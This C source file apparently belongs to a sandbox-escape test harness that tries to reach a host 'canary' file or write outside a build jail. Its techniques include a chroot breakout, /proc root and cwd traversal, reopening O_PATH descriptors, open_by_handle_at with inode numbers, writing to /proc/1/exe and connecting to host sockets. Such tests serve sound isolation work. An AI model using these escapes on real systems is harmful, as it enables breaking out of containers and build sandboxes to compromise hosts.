/* Files of the machine, by their names and by what leads to them. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "hostile.h"

static bool
canary_by_name(void)
{
	return reads(aim.canary);
}

static bool
canary_upwards(void)
{
	char path[DEPTH * 3 + 512] = "";

	for (int i = 0; i < DEPTH; i++)
		strcat(path, "../");
	strncat(path, aim.canary + 1, 500);
	return reads(path) || reads_at(open("/", O_RDONLY | O_DIRECTORY), path);
}

static bool
canary_by_link(void)
{
	unlink("/link");
	return symlink(aim.canary, "/link") == 0 && reads("/link");
}

bool
leave_chroot(void)
{
	char up[DEPTH * 3 + 1] = "";
	int root_fd = open("/", O_RDONLY | O_DIRECTORY);

	for (int i = 0; i < DEPTH; i++)
		strcat(up, "../");
	mkdir("/jail", 0755);
	return chroot("/jail") == 0 && fchdir(root_fd) == 0 && chdir(up) == 0 &&
	       chroot(".") == 0;
}

static bool
canary_out_of_chroot(void)
{
	return leave_chroot() && reads(aim.canary);
}

static bool
write_out_of_chroot(void)
{
	char path[512];
	int fd = -1;

	leave_chroot();
	snprintf(path, sizeof path, "%s.written", aim.canary);
	fd = open(path, O_CREAT | O_WRONLY, 0644);
	return fd >= 0;
}

static bool
canary_by_process(const char *format, int from, int to)
{
	char path[1024];

	for (int pid = from; pid <= to; pid++) {
		snprintf(path, sizeof path, format, pid, aim.canary);
		if (reads(path))
			return true;
	}
	return false;
}

static bool
canary_by_root_of_process(void)
{
	return canary_by_process("/proc/%d/root%s", 1, 200) ||
	       canary_by_process("/proc/%d/root%s", aim.victim, aim.victim);
}

static bool
canary_by_cwd_of_process(void)
{
	static const char format[] = "/proc/%d/cwd/../../../../../../../../../..%s";

	return canary_by_process(format, 1, 200) ||
	       canary_by_process(format, aim.victim, aim.victim);
}

static bool
canary_by_own_root(void)
{
	char path[1024];

	snprintf(path, sizeof path, "/proc/self/root/../../../../../../../../..%s",
	         aim.canary);
	if (reads(path))
		return true;
	snprintf(path, sizeof path, "/proc/thread-self/root/../../../../../../../..%s",
	         aim.canary);
	if (reads(path))
		return true;
	snprintf(path, sizeof path, "/proc/self/cwd/../../../../../../../../../..%s",
	         aim.canary);
	return reads(path);
}

static bool
canary_by_open_proc(void)
{
	int fd = open("/proc", O_RDONLY | O_DIRECTORY);
	char path[1024];

	for (int pid = 1; pid < 200; pid++) {
		snprintf(path, sizeof path, "%d/root%s", pid, aim.canary);
		if (reads_at(fd, path))
			return true;
	}
	snprintf(path, sizeof path, "%d/root%s", aim.victim, aim.canary);
	return reads_at(fd, path);
}

static bool
store_by_name(void)
{
	return open(aim.store, O_RDONLY | O_DIRECTORY) >= 0;
}

/* ------------------------------------------------------------ what others open for us */

/* Whatever is asked of a supervisor: what is open without rights, by the name of its
 * descriptor. */
static bool
canary_by_descriptor(void)
{
	char path[64];
	int fd = -1;

	leave_chroot();
	fd = open(aim.canary, O_PATH);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	return fd >= 0 && (reads(path) || open(path, O_WRONLY) >= 0);
}

/* Rules on files may leave out what belongs to them. */
static bool
metadata_out_of_chroot(void)
{
	struct stat st;

	leave_chroot();
	return stat(aim.canary, &st) == 0 || chmod(aim.canary, 0644) == 0 ||
	       lchown(aim.canary, 0, 0) == 0 ||
	       setxattr(aim.canary, "user.hostile", "", 0, 0) == 0 ||
	       utimensat(AT_FDCWD, aim.canary, NULL, 0) == 0;
}

/* Paths that a supervisor may take for harmless, by what is before them. */
static const char *const ways[] = { "/proc",        "//proc", "/./proc",
	                            "/tmp/../proc", "/way",   "." };

static void
start_of_way(int i, char out[64])
{
	symlink("/proc", "/way");
	if (strcmp(ways[i], ".") == 0 && chdir("/proc") < 0)
		return;
	strcpy(out, ways[i]);
}

/* As somebody for whom new files are not root's. */
static void
become_user(void)
{
	syscall(SYS_setresgid, 1, 1, 1);
	syscall(SYS_setresuid, 1, 1, 1);
}

/* Of each process that there may be, its root as REACHES. */
static bool
by_all_processes(bool (*reaches)(const char *root))
{
	char start[64] = "", root[128];

	for (int i = 0; i < (int)(sizeof ways / sizeof *ways); i++)
		for (pid_t pid = 0; pid <= 4000; pid++) {
			start_of_way(i, start);
			if (pid == 0)
				snprintf(root, sizeof root, "%s/self/root", start);
			else
				snprintf(root, sizeof root, "%s/%d/root", start,
				         pid > 3000 ? aim.victim - 3500 + pid : pid);
			if (reaches(root))
				return true;
		}
	return false;
}

static bool
sees_canary(const char *root)
{
	char path[1024];
	struct stat st;

	snprintf(path, sizeof path, "%s%s", root, aim.canary);
	return stat(path, &st) == 0 || chown(path, 7, 7) == 0;
}

static bool
makes_file(const char *root)
{
	char path[1024];

	snprintf(path, sizeof path, "%s%s.written", root, aim.canary);
	return open(path, O_CREAT | O_EXCL | O_WRONLY, 0644) >= 0 ||
	       mkdir(path, 0755) == 0;
}

static bool
canary_by_all_processes(void)
{
	return by_all_processes(sees_canary);
}

static bool
write_by_all_processes(void)
{
	become_user();
	return by_all_processes(makes_file);
}

static bool
is_own_program(const char *path)
{
	struct stat st, own;

	return stat(path, &st) == 0 && stat("/hostile", &own) == 0 &&
	       st.st_ino == own.st_ino && st.st_dev == own.st_dev;
}

/* The program that is the builder, the first process and supervisors. */
static bool
program_of_builder(void)
{
	static const char *const links[] = { "/proc/1/exe", "/proc/self/../1/exe" };
	char path[64];

	for (size_t i = 0; i < sizeof links / sizeof *links; i++)
		if (open(links[i], O_RDONLY) >= 0 || open(links[i], O_WRONLY) >= 0 ||
		    chown(links[i], 7, 7) == 0)
			return true;
	snprintf(path, sizeof path, "/proc/%d/exe", getppid());
	return getppid() != 1 && !is_own_program(path) && open(path, O_WRONLY) >= 0;
}

/* Numbers of inodes instead of names: the root directory of most file systems is 2. What
 * is mounted from the machine leads to its file system. */
static bool
canary_by_handle(void)
{
	const char *const mounted[] = { "/", "/etc/hosts", "/etc/resolv.conf", "/cache",
		                        aim.store };
	struct {
		unsigned bytes;
		int type;
		unsigned inode, generation;
	} handle = { 8, 1, 2, 0 };

	for (size_t i = 0; i < sizeof mounted / sizeof *mounted; i++) {
		int fd = open(mounted[i], O_RDONLY);

		fd = (int)syscall(SYS_open_by_handle_at, fd, &handle, O_RDONLY);
		if (fd >= 0)
			return true;
	}
	return false;
}

static bool
connects(const char *path)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	strncpy(address.sun_path, path, sizeof address.sun_path - 1);
	return connect(fd, (struct sockaddr *)&address, sizeof address) == 0;
}

static bool
socket_by_name(void)
{
	char path[512];

	snprintf(path, sizeof path, "%s.socket", aim.canary);
	if (connects(path))
		return true;
	leave_chroot();
	return connects(path);
}

const struct try tries_of_files[] = {
	{ "canary-by-name", canary_by_name },
	{ "canary-upwards", canary_upwards },
	{ "canary-by-link", canary_by_link },
	{ "canary-out-of-chroot", canary_out_of_chroot },
	{ "write-out-of-chroot", write_out_of_chroot },
	{ "metadata-out-of-chroot", metadata_out_of_chroot },
	{ "canary-by-root-of-process", canary_by_root_of_process },
	{ "canary-by-cwd-of-process", canary_by_cwd_of_process },
	{ "canary-by-own-root", canary_by_own_root },
	{ "canary-by-open-proc", canary_by_open_proc },
	{ "canary-by-descriptor", canary_by_descriptor },
	{ "canary-by-all-processes", canary_by_all_processes },
	{ "write-by-all-processes", write_by_all_processes },
	{ "canary-by-handle", canary_by_handle },
	{ "program-of-builder", program_of_builder },
	{ "socket-by-name", socket_by_name },
	{ "store-by-name", store_by_name },
	{ NULL, NULL },
};
